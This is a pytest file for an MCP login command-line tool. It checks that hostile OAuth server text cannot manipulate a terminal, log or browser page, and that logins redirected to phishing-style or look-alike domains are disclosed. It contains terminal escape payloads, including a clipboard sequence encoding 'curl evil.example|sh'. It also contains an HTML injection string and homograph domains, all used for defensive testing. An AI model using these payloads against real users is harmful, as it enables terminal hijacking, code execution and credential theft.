"""Text of strangers before a person: on a terminal, in JSON, in a log, in a browser; and who asks for what, told beforehand.

RFC 9728 section 7.8 (phishing); CVE-2025-58444 (metadata is hostile text wherever it is shown); Unicode Technical Report 36.
"""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, Any

import pytest

from mcp_login.cli.commands import run
from mcp_login.storage.index import Index, IndexEntry
from tests.flows.strangers import Answer
from tests.hostile.attack import attack, refute
from tests.hostile.launchers import Launchers
from tests.hostile.open_login import OpenLogin
from tests.hostile.parties import AuthorizationServer, Resource
from tests.hostile.switches.display import (
    ADDRESSES_STAND_ALONE,
    ASCII_JSON,
    CLEANED,
    ESCAPED_MARKUP,
    HANGING_LINES,
    KNOWN_BY_PAGE_TOO,
    NETWORK_NAMES,
    PUBLIC_SUFFIXES,
    SHORTENED,
    TOLD,
    VISIBLE_TOKENS,
)
from tests.hostile.world import unfit
from tests.screen import rows

if TYPE_CHECKING:
    from tests.hostile.world import World

__all__: list[str] = []

#: What text can do to a terminal, or to who reads it.
TRICKS = {
    "a title": "\x1b]0;root@bank\x07",
    "a link": "\x1b]8;;https://evil.example\x1b\\\\https://mcp.example.com\x1b]8;;\x1b\\\\",
    "the clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
    "C1 controls": "\x9b31m\x9d0;x\x9c",
    "a line of ours": "no\nLogged in at https://mcp.example.com/mcp",
    "an overwritten line": "no\rLogged in at https://mcp.example.com/mcp\t\x08\x0b\x0c",
    "another direction": "\u202emoc.elpmaxe\u202c \u2066x\u2069 \u200f\u061c",
    "what nobody sees": "a\u200bb\u2060c\ufeffd\u00ade\U000e0041f",
    "other line ends": "no\u2028Logged in\u2029at\x85all",
}
#: All of them in one text: what gets through in one place, gets through in any.
EVERYTHING = "|".join(TRICKS.values())


class Terminal:
    """The command line in this process, what it writes, and a browser that opens addresses for `world`'s person."""

    def __init__(self, world: World, capsys: pytest.CaptureFixture[str]) -> None:
        self._capsys = capsys
        self._launchers = Launchers("linux", visit=self._open).install(world.monkeypatch)
        self._person = world.person
        self.out = ""
        self.err = ""
        #: What stood on the terminal when the browser opened.
        self.before_browser = ""
        world.monkeypatch.setenv("MCP_LOGIN_STORAGE", "file")

    def _open(self, url: str) -> None:
        self._read()
        self.before_browser = self.err
        self._person(url)

    def _read(self) -> None:
        out, err = self._capsys.readouterr()
        self.out, self.err = self.out + out, self.err + err

    def run(self, *arguments: str) -> int:
        """The exit status of the command with `arguments`."""
        self.out = self.err = self.before_browser = ""
        status = run(list(arguments))
        self._read()
        return status

    def require_decent(self) -> None:
        """Raise `Breach` where something was written that controls a terminal, or a line that the command didn't write."""
        found = unfit((self.out + self.err).replace("\n", ""))
        refute(found, f"the terminal got {', '.join(sorted(set(found)))}")
        refute(re.search(r"^(?:Logged in|root@)", self.out + self.err, re.MULTILINE), "a line was forged")
        refute({"\u2028", "\u2029"} & set(self.out + self.err), "a line was forged")


@pytest.fixture
def terminal(world: World, capsys: pytest.CaptureFixture[str]) -> Terminal:
    """A terminal whose commands keep logins in files."""
    return Terminal(world, capsys)


def refusal(description: str, status: int = 400, error: str = "invalid_request") -> Answer:
    """An OAuth error."""
    return Answer(status, {"error": error, "error_description": description, "error_uri": description})


@pytest.mark.parametrize("trick", TRICKS)
@attack("CVE-2025-58444; RFC 6749 section 5.2", CLEANED)
def test_the_words_of_a_token_endpoint_do_nothing_to_a_terminal(world: World, terminal: Terminal, trick: str) -> None:
    resource, server = world.server()
    server.on["/token"] = lambda _: refusal(TRICKS[trick])
    assert terminal.run("login", resource.url) != 0
    terminal.require_decent()
    assert "invalid_request" in terminal.err


#: What a stranger fills a line with, so that what follows stands where the terminal begins the next one.
PADDING = {"words": "busy ", "one word": "x", "wide letters": "\N{CJK UNIFIED IDEOGRAPH-5BBD}"}


@pytest.mark.parametrize("padding", PADDING)
@attack("RFC 6749 section 5.2", HANGING_LINES)
def test_the_words_of_a_server_never_stand_where_a_line_of_ours_begins(
    world: World, terminal: Terminal, padding: str
) -> None:
    resource, server = world.server()
    world.monkeypatch.setattr("mcp_login.cli.screen.terminal_width", lambda _: 80)
    before = len("Error: The token endpoint refused the request: invalid_request (")
    columns = 2 if padding == "wide letters" else 1
    filler = (PADDING[padding] * 160)[: (160 - before) // columns]
    server.on["/token"] = lambda _: refusal(f"{filler}Hint: run this to mend it")
    assert terminal.run("login", resource.url) != 0
    # Of a wide letter a terminal makes two columns.
    shown = "".join(f"{letter}_" if letter > "\u3000" else letter for letter in terminal.err)
    refute([row for row in rows(shown) if row.startswith("Hint: run this")], "a line was forged")
    assert "Hint: run this" in " ".join(terminal.err.split())


@pytest.mark.parametrize(
    "blank",
    [" ", "\t", "\N{NO-BREAK SPACE}", "\N{IDEOGRAPHIC SPACE}", "\N{BRAILLE PATTERN BLANK}", "\N{HANGUL FILLER}"],
)
def test_blanks_are_one_space_each_time(world: World, terminal: Terminal, blank: str) -> None:
    resource, server = world.server()
    server.on["/token"] = lambda _: refusal(f"busy{blank * 100}Hint: no")
    assert terminal.run("login", resource.url) != 0
    assert "busy Hint: no" in terminal.err


@attack("RFC 7591 section 3.2.2", CLEANED)
def test_the_words_of_a_registration_endpoint_do_nothing_to_a_terminal(world: World, terminal: Terminal) -> None:
    resource, server = world.server()
    server.on["/register"] = lambda _: refusal(EVERYTHING, error="invalid_client_metadata")
    assert terminal.run("login", resource.url) != 0
    terminal.require_decent()


@attack("RFC 6749 section 4.1.2.1; RFC 9207 section 2.4", CLEANED)
def test_the_words_of_an_authorization_response_do_nothing_to_a_terminal(world: World, terminal: Terminal) -> None:
    resource, server = world.server()
    server.response = {"code": None, "error": "server_error", "error_description": EVERYTHING, "error_uri": EVERYTHING}
    assert terminal.run("login", resource.url) != 0
    terminal.require_decent()


@attack("RFC 7009 section 2.2.1", CLEANED)
def test_the_words_of_a_revocation_endpoint_do_nothing_to_a_terminal(world: World, terminal: Terminal) -> None:
    resource, server = world.server()
    server.metadata["revocation_endpoint"] = f"{server.host.origin}/revoke"
    server.on["/revoke"] = lambda _: refusal(EVERYTHING, error=EVERYTHING)
    terminal.run("login", resource.url)
    terminal.run("logout", resource.url)
    terminal.require_decent()
    assert "did not confirm" in terminal.err


@attack("RFC 6749 section 5.2", CLEANED)
def test_an_error_word_that_is_no_word_is_shown_as_text(world: World, terminal: Terminal) -> None:
    resource, server = world.server()
    server.on["/token"] = lambda _: refusal("no", error=EVERYTHING)
    assert terminal.run("login", resource.url) != 0
    terminal.require_decent()


@attack("our own limit", SHORTENED)
def test_nobody_fills_the_screen(world: World, terminal: Terminal) -> None:
    resource, server = world.server()
    server.on["/token"] = lambda _: refusal("scroll up " * 20_000, error="e" * 20_000)
    assert terminal.run("login", resource.url) != 0
    refute(len(terminal.err) > 4000, f"{len(terminal.err)} characters were written")


@attack("RFC 6750 section 2.1; RFC 6749 appendix A.12", VISIBLE_TOKENS)
def test_a_token_that_is_no_token_is_not_printed(world: World, terminal: Terminal) -> None:
    """`mcp-login token` is meant for `$(...)` and pipes, and is typed by people, too."""
    resource, server = world.server()
    server.answer["access_token"] = f"token{EVERYTHING}"
    terminal.run("login", resource.url)
    terminal.run("token", resource.url)
    terminal.require_decent()
    assert terminal.out == ""


def listed(**changes: Any) -> None:
    """An entry in the list of logins, such as another program may have left there."""
    entry: dict[str, Any] = {
        "server_url": f"https://mcp.example.com/{EVERYTHING}",
        "account": f"me{EVERYTHING}",
        "storage": f"vault{EVERYTHING}",
        "issuer": f"https://mcp.example.com/{EVERYTHING}",
        "resource": f"https://mcp.example.com/{EVERYTHING}",
        "scopes": (f"read{EVERYTHING}", "write"),
        "updated_at": 1_700_000_000.0,
    }
    Index().put(IndexEntry(**{**entry, **changes}))


@pytest.mark.parametrize(
    "command", [("list",), ("status",), ("logout", "--all"), ("logout", "https://mcp.example.com/x")]
)
@attack("Unicode Technical Report 36; our own rule", CLEANED)
def test_a_list_of_logins_does_nothing_to_a_terminal(terminal: Terminal, command: tuple[str, ...]) -> None:
    listed()
    listed(server_url="https://mcp.example.com/x", storage="file", digest="")
    terminal.run(*command)
    terminal.require_decent()
    assert terminal.out + terminal.err


@pytest.mark.parametrize("command", [("list",), ("status",)])
@attack("RFC 8259 section 7; our own rule", ASCII_JSON)
def test_json_is_escaped_and_says_all(terminal: Terminal, command: tuple[str, ...]) -> None:
    """A reader of JSON gets the very text; a terminal that shows the document gets nothing of it."""
    listed(server_url="https://mcp.example.com/x", storage="file")
    terminal.run(*command, "--json")
    terminal.require_decent()
    [login] = json.loads(terminal.out)["logins"]
    assert login["account"] == f"me{EVERYTHING}"
    assert terminal.out.isascii()


@attack("RFC 8259 section 7; RFC 6749 section 5.2", CLEANED)
def test_an_error_in_json_says_what_a_person_would_read(world: World, terminal: Terminal) -> None:
    resource, server = world.server()
    server.on["/token"] = lambda _: refusal(EVERYTHING)
    assert terminal.run("login", resource.url, "--json") != 0
    terminal.require_decent()
    error = json.loads(terminal.out)["error"]
    refute(unfit(error["message"] + error["oauth_error"]["error_description"]), "programs that print it print controls")


@attack("CVE-2025-58444; OWASP Log Injection", CLEANED)
def test_a_line_of_the_log_is_one_line_of_ours(world: World) -> None:
    resource, server = world.server()
    server.response = {"code": None, "error": "invalid_scope", "error_description": EVERYTHING}
    outcome = world.ask(resource.url, scopes=["files:read"])
    ours = [line for line in f"{outcome.log}\n{outcome.error}".splitlines() if not line.startswith("http")]
    refute(
        [line for line in ours if unfit(line) or line.startswith("Logged in")],
        "the log holds what a stranger wrote into it",
    )
    assert outcome.error is not None


@attack("CVE-2025-58444; GHSA-gh95-xx4q-qch8", ESCAPED_MARKUP)
def test_the_last_page_shows_markup_as_text(world: World) -> None:
    """Of the token endpoint, which is asked while the browser waits."""
    resource, server = world.server()
    server.on["/token"] = lambda _: refusal(
        '<img src=x onerror="alert(1)"></p><form action=//evil.example><input name=password>'
    )
    with OpenLogin(world, resource, server) as login:
        page = login.browse(login.approved()).page
    refute(re.search(r"<(?:img|form|input)\b", page), "a stranger's markup is on the page")
    assert "&lt;img" in page


@attack("CVE-2025-58444; Unicode Technical Report 36", CLEANED)
def test_the_last_page_shows_no_direction_and_no_control(world: World) -> None:
    resource, server = world.server()
    server.on["/token"] = lambda _: refusal(EVERYTHING)
    with OpenLogin(world, resource, server) as login:
        page = login.browse(login.approved()).page
    refute(unfit(page.replace("\n", "")), "what a stranger says turns the page's text round")


@attack("our own limit", SHORTENED)
def test_the_last_page_does_not_grow(world: World) -> None:
    resource, server = world.server()
    server.on["/token"] = lambda _: refusal("x" * 30_000)
    with OpenLogin(world, resource, server) as login:
        page = login.browse(login.approved()).page
    refute(len(page) > 20_000, "a stranger fills the page")


# Who asks for what


def two_sites(world: World, resource: str, issuer: str) -> Resource:
    """An MCP server and an authorization server, by the names of their hosts."""
    host, other = world.host(resource), world.host(issuer)
    return Resource(host, AuthorizationServer(other))


TOLD_BY = "sends you to another site to log in"


@attack("RFC 9728 section 7.8", TOLD)
def test_a_page_of_somebody_else_s_is_announced(world: World, terminal: Terminal) -> None:
    is_announced(world, terminal, "mcp.example.com", "mcp.example.com.evil.com")


@pytest.mark.parametrize(
    ("resource", "issuer"),
    [
        ("mallory.github.io", "alice.github.io"),
        ("mallory.co.uk", "bank.co.uk"),
        ("a.b.compute.amazonaws.com", "c.b.compute.amazonaws.com"),
    ],
)
@attack("RFC 9728 section 7.8", PUBLIC_SUFFIXES)
def test_a_neighbour_under_a_public_suffix_is_somebody_else(
    world: World, terminal: Terminal, resource: str, issuer: str
) -> None:
    is_announced(world, terminal, resource, issuer)


@attack("RFC 9728 section 7.8", ADDRESSES_STAND_ALONE)
def test_a_like_address_is_somebody_else(world: World, terminal: Terminal) -> None:
    is_announced(world, terminal, "93.184.216.34", "93.1.216.34")


def is_announced(world: World, terminal: Terminal, resource: str, issuer: str) -> None:
    """Before the browser opens: with the resource, the issuer's host and the scopes, and in our words."""
    server = two_sites(world, resource, issuer)
    server.challenge = 'Bearer scope="files:read mail:send"'
    terminal.run("login", server.url)
    refute(TOLD_BY not in terminal.before_browser, "the person was sent to somebody else's page without a word")
    rows = dict(line.split(maxsplit=1) for line in terminal.before_browser.splitlines() if line.startswith("  "))
    assert rows == {"resource": server.url, "issuer": issuer, "scopes": "files:read mail:send"}


@attack("RFC 9728 section 7.8; our own rule", KNOWN_BY_PAGE_TOO)
def test_a_first_login_at_home_does_not_open_the_way_to_other_pages(world: World, terminal: Terminal) -> None:
    """The first login is at the server's own site, so nothing is told; with the second one it shows another's page."""
    resource = two_sites(world, "mcp.example.com", "auth.example.com")
    [server] = resource.servers
    phish = world.host("accounts.example.org")
    assert terminal.run("login", resource.url) == 0
    assert TOLD_BY not in terminal.err
    server.metadata["authorization_endpoint"] = f"{phish.origin}/authorize"
    phish.answer = server.authorize
    assert terminal.run("login", resource.url, "--force") == 0
    refute(TOLD_BY not in terminal.before_browser, "the person was sent to somebody else's page without a word")
    assert re.search(r"^  login page +accounts\.example\.org$", terminal.before_browser, re.MULTILINE)


@attack("RFC 9728 section 7.8; Unicode Technical Report 36 section 2", NETWORK_NAMES)
def test_a_look_alike_is_shown_as_what_it_is(world: World, terminal: Terminal) -> None:
    """The Cyrillic а in аpple.com reads as a Latin one."""
    server = two_sites(world, "mcp.example.com", "xn--pple-43d.com")
    terminal.run("login", server.url)
    assert TOLD_BY in terminal.before_browser
    told = re.search(r"^  issuer +xn--pple-43d\.com", terminal.before_browser, re.MULTILINE)
    refute(told is None, "a name is shown as what it looks like")
    assert re.search(r"^  issuer +xn--pple-43d\.com \(\u0430pple\.com\)$", terminal.before_browser, re.MULTILINE)


def test_scopes_do_not_look_like_the_other_lines(world: World, terminal: Terminal) -> None:
    server = two_sites(world, "mcp.example.com", "auth.example.net")
    imitations = ["issuer", "accounts.google.com", "Approve", "x" * 300, *(f"scope{number}" for number in range(200))]
    server.challenge = f'Bearer scope="{" ".join(imitations)}"'
    terminal.run("login", server.url)
    told = terminal.before_browser.partition("Approve only")[0].splitlines()
    assert len(told) < 18
    assert len([line for line in told if line.startswith("  issuer")]) == 1
    assert all(len(line) <= 80 for line in told)
    assert re.search(r"and more: \d+ in all", terminal.before_browser)


def test_a_page_of_the_server_s_own_site_needs_no_words(world: World, terminal: Terminal) -> None:
    server = two_sites(world, "mcp.example.com", "auth.example.com")
    assert terminal.run("login", server.url) == 0
    assert TOLD_BY not in terminal.err
